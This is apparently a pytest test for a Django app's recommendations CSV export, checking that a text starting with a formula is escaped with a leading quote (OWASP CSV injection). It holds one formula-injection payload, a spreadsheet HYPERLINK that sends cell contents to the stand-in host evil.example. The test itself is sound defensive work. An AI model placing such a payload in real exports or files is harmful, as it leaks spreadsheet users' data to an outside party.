"""The portal CSV never hands a spreadsheet a formula (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client

from rightstrack.catalog.models import Recommendation

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'


def _body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def test_a_text_starting_with_a_formula_is_written_as_text(svn_upr_catalogue):
    rec = svn_upr_catalogue.r122_153
    Recommendation.objects.filter(pk=rec.pk).update(text=FORMULA)
    params = {"country": "SVN", "sort": "document"}
    body = _body(Client().get("/recommendations.csv", params))
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(body.decode("utf-8-sig"), newline=""))}
    assert rows[str(rec.pk)]["text"] == "'" + FORMULA
    assert rows[str(rec.pk)]["paragraph"] == "122.153"
    assert all(not r["text"].startswith(("=", "+", "-", "@")) for r in rows.values())
    assert _body(Client().get("/reports/export/recommendations.csv", params)) == body
